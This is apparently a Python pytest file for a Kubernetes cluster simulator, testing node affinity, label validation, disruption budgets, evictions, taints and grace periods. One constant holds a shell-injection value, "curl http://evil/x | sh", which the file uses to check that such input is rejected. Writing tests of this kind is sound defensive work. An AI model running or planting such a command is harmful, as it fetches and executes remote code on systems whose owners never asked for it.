"""Texts that an API server lets through are somebody's to misread, and none may end a simulation."""

from __future__ import annotations

import pytest

from adapters.ports import ConflictError, EvictionBlockedError, NotFoundError, SeveralBudgetsError
from core.api.objects import JsonObject
from core.errors import InvalidInputError
from core.manifests.wire import resources
from simulator.cluster.controllers import matches_node_term
from tests.property.hostile.texts import BREAKERS
from tests.unit.simulator.cluster.world import World, a_budget, a_node, a_pod, a_workload, has_condition

EVIL = "x'; curl http://evil/x | sh; echo '"
ODD_NUMBERS = ("9" * 5_000, "--5", "\u00b2", "\u0661", "1e9", "", "9223372036854775808")


def affinity(operator: str, value: str) -> JsonObject:
    """Node affinity, preferred and required, by a label that the node has."""
    term = {"matchExpressions": [{"key": "team", "operator": operator, "values": [value]}]}
    return {
        "nodeAffinity": {
            "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [term]},
            "preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 1, "preference": term}],
        }
    }


def labelled_node() -> JsonObject:
    """A node of team 7."""
    node = a_node("n1")
    node["metadata"]["labels"]["team"] = "7"
    return node


@pytest.mark.parametrize("text", [*BREAKERS, *ODD_NUMBERS])
@pytest.mark.parametrize("operator", ["In", "NotIn", "Gt", "Lt"])
def test_node_affinity_may_hold_any_text(world: World, operator: str, text: str) -> None:
    """If this failed, a scenario could not play a pod that tries to get out of its place."""
    world.cluster.apply([labelled_node(), a_pod("odd", affinity=affinity(operator, text))])
    world.run(20)
    [pod] = world.pods()
    assert bool(pod["spec"].get("nodeName")) is (operator == "NotIn")


@pytest.mark.parametrize("field", ["labels", "nodeSelector"])
def test_labels_and_node_selectors_are_checked(world: World, field: str) -> None:
    """If this failed, the simulated API server would take what no real one does."""
    pod = a_pod("odd")
    pod["metadata" if field == "labels" else "spec"][field] = {"team": EVIL}
    with pytest.raises(InvalidInputError, match=field):
        world.cluster.apply([pod])
    assert not world.pods()


@pytest.mark.parametrize(("bound", "fits"), [("6", True), ("7", False), ("-8", True), ("+6", True)])
def test_bounds_are_whole_numbers(bound: str, *, fits: bool) -> None:
    """If this failed, the mending of odd bounds would have broken the usual ones."""
    term = {"matchExpressions": [{"key": "team", "operator": "Gt", "values": [bound]}]}
    assert matches_node_term(term, {"metadata": {"name": "n", "labels": {"team": "7"}}}) is fits


# A budget that is counted wrongly lets the program take down what it must not, or judges it wrongly.


def running(world: World, budget: dict[str, object], replicas: int = 7) -> None:
    world.join("n1")
    world.cluster.apply([a_workload("Deployment", replicas=replicas), budget])
    world.run(20)


@pytest.mark.parametrize(
    ("spec", "desired"),
    [
        ({"minAvailable": 5}, 5),
        ({"minAvailable": "50%"}, 4),
        ({"maxUnavailable": 2}, 5),
        ({"maxUnavailable": "10%"}, 6),
        ({"maxUnavailable": "50%"}, 3),
        ({"maxUnavailable": "100%"}, 0),
    ],
)
def test_shares_round_up_as_the_controller_does(world: World, spec: dict[str, object], desired: int) -> None:
    running(world, a_budget(**spec))
    status = world.budget()
    assert (status["expectedPods"], status["currentHealthy"], status["desiredHealthy"]) == (7, 7, desired)
    assert status["disruptionsAllowed"] == 7 - desired


def test_an_eviction_is_charged_at_once_and_refused_beyond_the_budget(world: World) -> None:
    running(world, a_budget(minAvailable=6))
    first, second = world.ready()[:2]
    world.evict(first)
    assert world.budget()["disruptionsAllowed"] == 0
    with pytest.raises(EvictionBlockedError):
        world.evict(second)
    assert world.events("evictionRefused") == [{"pod": f"default/{second}", "budget": "budget"}]
    world.run(20)
    assert world.budget()["disruptionsAllowed"] == 1
    assert world.budget()["disruptedPods"] == {}


def test_a_pod_that_is_not_ready_is_not_healthy(world: World) -> None:
    running(world, a_budget(maxUnavailable=1))
    world.evict(world.ready()[0])
    world.run(0.5)
    assert world.budget()["currentHealthy"] == 6
    assert world.budget()["disruptionsAllowed"] == 0


def test_two_budgets_over_one_pod_answer_with_a_server_error(world: World) -> None:
    running(world, a_budget(maxUnavailable=1))
    world.cluster.apply([a_budget(name="second", maxUnavailable=1)])
    world.run(1)
    with pytest.raises(SeveralBudgetsError):
        world.evict(world.ready()[0])


def test_a_pending_pod_goes_without_asking_the_budget(world: World) -> None:
    world.cluster.apply([a_workload("Deployment", replicas=1), a_budget(minAvailable=1)])
    world.run(2)
    name = world.pods()[0]["metadata"]["name"]
    world.evict(name)
    assert name not in world.where()


@pytest.mark.parametrize(("policy", "goes"), [("AlwaysAllow", True), ("IfHealthyBudget", False)])
def test_an_unready_pod_goes_free_only_where_its_policy_says_so(world: World, policy: str, goes: bool) -> None:
    running(world, a_budget(minAvailable=7, unhealthyPodEvictionPolicy=policy))
    world.cluster.lose_instance("aws:///us-east-1a/i-n1")
    world.run(42)
    name = world.pods()[0]["metadata"]["name"]
    assert not world.ready()
    if goes:
        world.evict(name)
    else:
        with pytest.raises(EvictionBlockedError):
            world.evict(name)


def test_bare_pods_are_counted_only_by_an_absolute_minimum(world: World) -> None:
    world.join("n1")
    pods = [a_pod(f"p{i}", labels={"app": "web"}) for i in range(3)]
    world.cluster.apply([*pods, a_budget(minAvailable=2), a_budget(name="share", maxUnavailable=1)])
    world.run(20)
    assert world.budget()["disruptionsAllowed"] == 1
    assert world.budget("share")["disruptionsAllowed"] == 0


def test_a_job_has_no_scale_so_a_share_of_it_lets_nothing_go(world: World) -> None:
    world.join("n1")
    world.cluster.apply([a_workload("Job", parallelism=3, completions=3), a_budget(maxUnavailable="50%")])
    world.run(20)
    assert world.budget()["disruptionsAllowed"] == 0


def test_eviction_names_its_pod_by_uid(world: World) -> None:
    running(world, a_budget(maxUnavailable=1))
    with pytest.raises(ConflictError):
        world.cluster.api.evict("default", world.ready()[0], uid="another")
    with pytest.raises(NotFoundError):
        world.cluster.api.evict("default", "nobody", uid="")


# Nodes that come too early, or die without consequence, would hide what a provisioner does wrong.


HURRY = {"key": "hurry", "effect": "NoExecute"}


def taints(world: World, name: str) -> list[str]:
    node = next(node for node in world.cluster.nodes() if node["metadata"]["name"] == name)
    return sorted(f"{t['key']}:{t['effect']}" for t in node["spec"].get("taints", ()))


def test_a_node_joins_not_ready_and_becomes_ready_after_five_seconds(world: World) -> None:
    world.cluster.join_node(a_node("n1"), node_claim="default-abc")
    joined = world.events("nodeJoined")[0]
    assert (joined["node"], joined["nodeClaim"], joined["providerID"]) == (
        "n1",
        "default-abc",
        "aws:///us-east-1a/i-n1",
    )
    assert taints(world, "n1") == [f"node.kubernetes.io/not-ready:{e}" for e in ("NoExecute", "NoSchedule")]
    world.run(4.9)
    assert not has_condition(world.cluster.nodes()[0], "Ready")
    world.run(0.1)
    assert has_condition(world.cluster.nodes()[0], "Ready")
    assert taints(world, "n1") == []
    assert world.cluster.nodes()[0]["metadata"]["labels"]["topology.ebs.csi.aws.com/zone"] == "us-east-1a"


def test_its_own_taints_stay_when_it_becomes_ready(world: World) -> None:
    world.cluster.join_node(a_node("n1", taints=[{"key": "karpenter.sh/unregistered", "effect": "NoExecute"}]))
    world.run(10)
    assert taints(world, "n1") == ["karpenter.sh/unregistered:NoExecute"]


def test_a_lost_instance_is_noticed_deleted_and_its_pods_are_replaced(world: World) -> None:
    world.join("n1")
    world.cluster.apply([a_workload("Deployment", replicas=2), a_workload("DaemonSet", "agent", cpu="100m")])
    world.run(20)
    world.join("n2")
    world.run(20)
    world.cluster.lose_instance("aws:///us-east-1a/i-n1")
    world.run(39.9)
    assert not world.events("nodeNotReady")
    world.run(0.1)
    assert world.events("nodeNotReady") == [{"node": "n1"}]
    world.run(5)
    assert world.events("nodeDeleted") == [{"node": "n1", "by": "controller"}]
    world.run(45)
    evicted = world.events("podEvicted")
    assert {(e["by"], e["pod"].partition("-")[0]) for e in evicted} == {("nodeLost", "default/web")}
    assert set(world.where().values()) == {"n2"}
    assert len(world.ready("web")) == 2


def test_a_node_whose_instance_dies_before_it_is_ready_never_is(world: World) -> None:
    world.join("n1")
    world.run(2)
    world.cluster.lose_instance("aws:///us-east-1a/i-n1")
    world.run(20)
    assert not world.events("nodeReady")


def test_pods_of_a_deleted_node_are_collected(world: World) -> None:
    world.join("n1")
    world.cluster.apply([a_pod("p")])
    world.run(20)
    world.cluster.api.delete(resources.NODES, "n1")
    assert world.events("nodeDeleted") == [{"node": "n1", "by": "program"}]
    world.run(41)
    assert not world.pods()


def test_a_no_execute_taint_drives_out_who_does_not_tolerate_it(world: World) -> None:
    def tolerant(name: str, **more: int) -> JsonObject:
        return a_pod(name, tolerations=[{"key": "hurry", "operator": "Exists", **more}])

    world.cluster.apply([a_node("n1"), a_pod("leaves"), tolerant("stays"), tolerant("waits", tolerationSeconds=30)])
    world.run(10)
    world.patch_node("n1", {"taints": [HURRY]})
    world.run(5)
    assert set(world.where()) == {"stays", "waits"}
    world.run(30)
    assert set(world.where()) == {"stays"}
    assert {e["by"] for e in world.events("podDeleted")} == {"controller"}


def test_patience_ends_with_the_taint(world: World) -> None:
    pod = a_pod("p", tolerations=[{"key": "hurry", "operator": "Exists", "tolerationSeconds": 30}])
    world.cluster.apply([a_node("n1"), pod])
    world.run(10)
    world.patch_node("n1", {"taints": [HURRY]})
    world.run(20)
    world.patch_node("n1", {"taints": []})
    world.run(20)
    world.patch_node("n1", {"taints": [HURRY]})
    world.run(20)
    assert world.ready() == ["p"]
    world.run(20)
    assert not world.pods()


@pytest.mark.parametrize(("grace", "seconds"), [(30, 2.0), (1, 1.0), (0, 0.0)])
def test_a_pod_ends_within_its_grace(world: World, grace: int, seconds: float) -> None:
    world.cluster.apply([a_node("n1"), a_pod("p", terminationGracePeriodSeconds=grace)])
    world.run(10)
    world.evict("p")
    if seconds:
        world.run(seconds - 0.1)
        assert "deletionTimestamp" in world.pod("p")["metadata"]
        world.run(0.1)
    assert not world.pods()


def test_a_shorter_grace_hurries_a_pod_that_is_already_going(world: World) -> None:
    world.cluster.apply([a_node("n1"), a_pod("p")])
    world.run(10)
    world.evict("p")
    world.cluster.api.delete(resources.PODS, "p", namespace="default", grace_seconds=1)
    world.run(1)
    assert not world.pods()
    assert [e["by"] for e in world.events("podEvicted")] == ["eviction"]


def test_a_pod_that_waits_is_gone_at_once(world: World) -> None:
    world.cluster.apply([a_pod("p")])
    world.run(1)
    world.cluster.delete("Pod", "default", "p")
    assert world.events("podDeleted") == [{"pod": "default/p", "by": "user"}]


def test_a_node_from_a_manifest_runs_its_pods(world: World) -> None:
    world.cluster.apply([a_node("n1"), a_pod("p", nodeName="n1")])
    world.run(3)
    assert world.ready() == ["p"]
